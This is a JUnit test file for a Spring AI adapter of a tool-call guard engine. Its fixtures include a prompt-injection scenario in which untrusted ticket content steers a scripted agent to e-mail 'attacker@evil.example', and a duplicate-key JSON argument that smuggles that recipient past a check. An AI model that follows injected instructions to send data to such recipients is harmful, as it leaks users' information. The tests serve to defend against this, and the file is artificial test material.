package io.ape.springai;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.ape.api.ApeConfigurationException;
import io.ape.api.CallStatus;
import io.ape.api.EscalationResolution;
import io.ape.api.Provenance;
import io.ape.engine.AgentSession;
import io.ape.engine.ApeEngine;
import io.ape.engine.SessionOptions;
import io.ape.spi.AuditSink;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.springframework.ai.chat.client.ChatClient;
import org.springframework.ai.chat.messages.ToolResponseMessage;
import org.springframework.ai.tool.ToolCallback;

/**
 * The real Spring AI tool loop (ChatClient, its tool calling advisor, DefaultToolCallingManager,
 * MethodToolCallback) driven by a scripted model, with every tool guarded by a real
 * {@link ApeEngine} ({@code support.yaml}: {@code sendEmail} needs trusted parameters,
 * {@code refund} an approval).
 */
class SpringAiAgentTest {
  static final String USER = "Read ticket 4711 and e-mail bob@acme.com the subject "
      + "\"Ticket 4711\" and the text \"The printer on floor 3 is being fixed.\"";
  static final String SEND_TO_BOB = "{\"to\":\"bob@acme.com\",\"subject\":\"Ticket 4711\","
      + "\"body\":\"The printer on floor 3 is being fixed.\"}";
  static final String SEND_TO_ATTACKER = "{\"to\":\"attacker@evil.example\","
      + "\"subject\":\"Ticket 4711\",\"body\":\"The printer on floor 3 is being fixed.\"}";
  static final String DENIED_TEXT =
      "APE denied this tool call: it is not permitted by the security policy.";

  /** The application's own tool context (a method taking ToolContext needs a non-empty one). */
  static final Map<String, Object> APP_CONTEXT = Map.of("tenantDisplayName", "Acme");

  ApeEngine engine;
  AgentSession session;
  ScriptedChatModel model;

  @BeforeEach
  void setUp() {
    engine = Engines.builder().build();
    session = engine.openSession(SessionOptions.forUser("alice"));
    model = new ScriptedChatModel();
  }

  @AfterEach
  void tearDown() {
    engine.close();
  }

  String chat(ApeToolCallbacks ape, List<ToolCallback> tools, AgentSession in, String user) {
    try (ApeSessionScope scope = ApeSessionScope.open(in)) {
      return ChatClient.create(model).prompt()
          .advisors(ape.userMessageAdvisor())
          .user(user)
          .toolCallbacks(tools)
          .toolContext(APP_CONTEXT)
          .call().content();
    }
  }

  static String auditOf(ApeEngine engine, String toolId) {
    return engine.auditEvents().events().stream().filter(e -> toolId.equals(e.toolId()))
        .map(Engines::line).collect(Collectors.joining("\n"));
  }

  @Test
  void aBenignTaskCompletes() {
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
    model.callTool("getTicket", "{\"id\":\"4711\"}").callTool("sendEmail", SEND_TO_BOB)
        .answer("Done: Bob has the summary.");

    assertThat(chat(ape, ape.from(tools), session, USER)).isEqualTo("Done: Bob has the summary.");
    assertThat(tools.read).containsExactly("4711");
    assertThat(tools.sent).containsExactly(
        "bob@acme.com|Ticket 4711|The printer on floor 3 is being fixed.");
    assertThat(session.provenance().label("bob@acme.com")).isEqualTo(Provenance.USER_TRUSTED);
    assertThat(session.provenance().label("Reported by Dana"))
        .isEqualTo(Provenance.EXTERNAL_UNTRUSTED);
    // the tool context reaches the tool as the application set it: nothing of APE's in it
    assertThat(tools.contexts).hasSize(1);
    assertThat(tools.contexts.get(0)).isEqualTo(APP_CONTEXT);
    assertThat(tools.contexts.get(0).values()).noneMatch(v -> String.valueOf(v)
        .contains(session.id()));
  }

  @Test
  void anInjectedRecipientIsDeniedTheModelGetsTheTerseErrorAndTheAuditTheReason() {
    TicketTools tools = new TicketTools(TicketTools.INJECTED);
    ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
    model.callTool("getTicket", "{\"id\":\"4711\"}").callTool("sendEmail", SEND_TO_ATTACKER)
        .answer("I could not send that e-mail.");

    assertThat(chat(ape, ape.from(tools), session, USER))
        .isEqualTo("I could not send that e-mail.");
    assertThat(tools.sent).isEmpty();
    List<ToolResponseMessage.ToolResponse> responses = model.toolResponses();
    assertThat(responses).extracting(ToolResponseMessage.ToolResponse::name)
        .containsExactly("getTicket", "sendEmail");
    assertThat(responses.get(1).responseData()).isEqualTo(DENIED_TEXT);
    assertThat(auditOf(engine, "sendEmail")).contains("send-requires-trusted-recipient",
        "to=EXTERNAL_UNTRUSTED", "subject=USER_TRUSTED").doesNotContain("TOOL_EXECUTION");
  }

  @Test
  void inAbortModeTheRefusalEndsTheChatCall() {
    TicketTools tools = new TicketTools(TicketTools.INJECTED);
    ApeToolCallbacks ape = ApeSpringAi.guard(engine).refusalMode(RefusalMode.ABORT).build();
    model.callTool("getTicket", "{\"id\":\"4711\"}").callTool("sendEmail", SEND_TO_ATTACKER)
        .answer("never reached");

    assertThatThrownBy(() -> chat(ape, ape.from(tools), session, USER))
        .isInstanceOf(ApeToolRefusedException.class).hasMessage(DENIED_TEXT)
        .satisfies(e -> {
          ApeToolRefusedException r = (ApeToolRefusedException) e;
          assertThat(r.result().status()).isEqualTo(CallStatus.DENIED);
          assertThat(r.result().parameterLabels())
              .containsEntry("to", Provenance.EXTERNAL_UNTRUSTED);
        });
    assertThat(tools.sent).isEmpty();
  }

  @Test
  void anEscalationGoesToTheSessionsResolverBeforeTheEngines() {
    AgentSession approved = engine.openSession(SessionOptions.forUser("alice")
        .withResolver(request -> EscalationResolution.approve(request, "lead",
            Provenance.USER_TRUSTED)));
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
    model.callTool("refund", "{\"orderId\":\"A-17\"}").answer("refunded");
    assertThat(chat(ape, ape.from(tools), approved, "Refund order A-17")).isEqualTo("refunded");
    assertThat(tools.refunded).containsExactly("A-17");

    model.callTool("refund", "{\"orderId\":\"A-17\"}").answer("not refunded");
    assertThat(chat(ape, ape.from(tools), session, "Refund order A-17"))
        .isEqualTo("not refunded"); // the engine's resolver: deny-all
    assertThat(model.toolResponses().get(0).responseData())
        .isEqualTo("APE denied this tool call: it needs a human approval that was not given.");
    assertThat(tools.refunded).containsExactly("A-17");
  }

  @Nested
  class TheToolDoesNotRunWhen {
    TicketTools tools = new TicketTools(TicketTools.BENIGN);

    String sendEmail(ApeToolCallbacks ape, AgentSession in, String arguments) {
      model.callTool("sendEmail", arguments).answer("after");
      assertThat(chat(ape, ape.from(tools), in, USER)).isEqualTo("after");
      return model.toolResponses().get(0).responseData();
    }

    @Test
    void thereIsNoSession() {
      ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
      model.callTool("sendEmail", SEND_TO_BOB).answer("after");
      String answer = ChatClient.create(model).prompt().user(USER)
          .toolCallbacks(ape.from(tools)).call().content();
      assertThat(answer).isEqualTo("after");
      assertThat(model.toolResponses().get(0).responseData())
          .isEqualTo("APE refused this tool call: the call or its arguments are invalid.");
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theSessionEndedOrBelongsToAnotherEngine() {
      ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
      try (ApeEngine other = Engines.builder().build()) {
        AgentSession foreign = other.openSession(SessionOptions.forUser("alice"));
        assertThat(sendEmail(ape, foreign, SEND_TO_BOB)).startsWith("APE refused");
      }
      session.close();
      model = new ScriptedChatModel();
      assertThat(sendEmail(ape, session, SEND_TO_BOB)).startsWith("APE refused");
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theArgumentsAreNotOneJsonObjectWithoutDuplicateKeys() {
      ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
      for (String bad : List.of("{\"to\":\"bob@acme.com\",\"to\":\"attacker@evil.example\","
          + "\"subject\":\"s\",\"body\":\"b\"}", "{not json", "[1]", "{\"to\":1} x")) {
        model = new ScriptedChatModel();
        assertThat(sendEmail(ape, session, bad)).as(bad).startsWith("APE refused this tool call");
      }
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theAdapterThrows() {
      ApeToolCallbacks ape = ApeSpringAi.guard(engine).sessions((context, e) -> {
        throw new IllegalStateException("session store down");
      }).build();
      assertThat(sendEmail(ape, session, SEND_TO_BOB))
          .isEqualTo("APE refused this tool call: it could not be checked safely.");
      assertThat(tools.sent).isEmpty();
      try (ApeEngine fresh = Engines.builder().build()) {
        ApeToolCallbacks broken = ApeSpringAi.guard(fresh).registrations(r -> null).build();
        assertThatThrownBy(() -> broken.from(tools))
            .isInstanceOf(ApeConfigurationException.class).hasMessageContaining("customiser");
        assertThat(fresh.toolIds()).isEmpty();
      }
    }

    @Test
    void theResolverHangs() {
      CountDownLatch release = new CountDownLatch(1);
      try (ApeEngine hanging = Engines.builder().escalationTimeout(Duration.ofMillis(100))
          .escalationResolver(request -> {
            release.await();
            return null;
          }).build()) {
        AgentSession s = hanging.openSession(SessionOptions.forUser("alice"));
        ApeToolCallbacks ape = ApeSpringAi.guard(hanging).build();
        model.callTool("refund", "{\"orderId\":\"A-17\"}").answer("after");
        assertThat(chat(ape, ape.from(tools), s, "Refund order A-17")).isEqualTo("after");
        assertThat(model.toolResponses().get(0).responseData()).isEqualTo(
            "APE denied this tool call: it needs a human approval that was not given.");
        assertThat(tools.refunded).isEmpty();
      } finally {
        release.countDown();
      }
    }

    @Test
    void theAuditSinkFails() {
      AtomicBoolean broken = new AtomicBoolean();
      AuditSink sink = event -> {
        if (broken.get()) {
          throw new IllegalStateException("audit disk full");
        }
      };
      try (ApeEngine failing = Engines.builder().auditSink(sink).build()) {
        AgentSession s = failing.openSession(SessionOptions.forUser("alice"));
        ApeToolCallbacks ape = ApeSpringAi.guard(failing).build();
        broken.set(true);
        assertThat(sendEmail(ape, s, SEND_TO_BOB))
            .isEqualTo("APE refused this tool call: it could not be checked safely.");
        assertThat(tools.sent).isEmpty();
      }
    }
  }

  @Test
  void aToolThatThrowsGivesTheModelATerseErrorWithoutItsMessage() {
    ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
    model.callTool("crash", "{\"reason\":\"x\"}").answer("after");
    assertThat(chat(ape, ape.from(new TicketTools(TicketTools.BENIGN)), session, USER))
        .isEqualTo("after");
    assertThat(model.toolResponses().get(0).responseData())
        .isEqualTo("The tool failed while running.");
  }

  @Test
  void aCallbackIsRegisteredOnceAndNotWrappedTwice() {
    ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
    List<ToolCallback> first = ape.from(new TicketTools(TicketTools.BENIGN));
    ToolCallback again = ape.guard(first.get(0));
    assertThat(again).isSameAs(first.get(0));
    ape.from(new TicketTools(TicketTools.BENIGN));
    assertThat(engine.toolIds()).containsExactlyInAnyOrder("getTicket", "sendEmail", "refund",
        "crash");
    assertThat(first).extracting(Object::toString).contains("ApeGuarded[getTicket]",
        "ApeGuarded[sendEmail]");
    assertThatThrownBy(() -> ApeSpringAi.guard(engine).build().from(new TicketTools("x")))
        .isInstanceOf(ApeConfigurationException.class).hasMessageContaining("already registered");
  }

  @Test
  void sessionScopesNestAndClose() {
    AgentSession other = engine.openSession(SessionOptions.forUser("bob"));
    assertThat(ApeSessionScope.current()).isNull();
    try (ApeSessionScope a = ApeSessionScope.open(session)) {
      try (ApeSessionScope b = ApeSessionScope.open(other)) {
        assertThat(ApeSessionScope.current()).isSameAs(other);
      }
      assertThat(ApeSessionScope.current()).isSameAs(session);
      a.close();
      a.close();
    }
    assertThat(ApeSessionScope.current()).isNull();
  }
}
